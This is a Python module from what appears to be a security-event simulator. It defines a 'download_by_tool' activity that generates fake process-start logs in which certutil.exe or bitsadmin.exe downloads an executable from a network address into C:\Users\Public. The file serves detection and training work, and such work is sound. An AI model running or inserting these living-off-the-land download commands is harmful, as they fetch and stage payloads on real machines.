"""A tool of the system fetches a program."""

from watchfloor.seeds import Stream
from watchfloor.world.activity import Activity, Cast
from watchfloor.world.event import Event

_FILES = ("a.bin", "pack.cab", "tool.exe", "agent.msi")
_COMMANDS = (
    ("certutil.exe", "-urlcache -split -f {url} C:\\Users\\Public\\{file}"),
    ("certutil.exe", "-verifyctl -split -f {url}"),
    ("bitsadmin.exe", "/transfer sync /download {url} C:\\Users\\Public\\{file}"),
)


def _leaves(cast: Cast, draw: Stream) -> list[Event]:
    (tool, how), file = draw.pick(_COMMANDS), draw.pick(_FILES)
    asked = how.format(url=f"http://{cast.address}/{file}", file=file)
    return [
        Event(
            "",
            0,
            "process_start",
            cast.host.name,
            cast.user,
            process=tool,
            parent="cmd.exe",
            command=f"{tool} {asked}",
        )
    ]


ACTIVITY = Activity(
    name="download_by_tool",
    summary="A tool of the system fetches a program.",
    at=(
        "workstation",
        "server",
    ),
    leaves=_leaves,
)
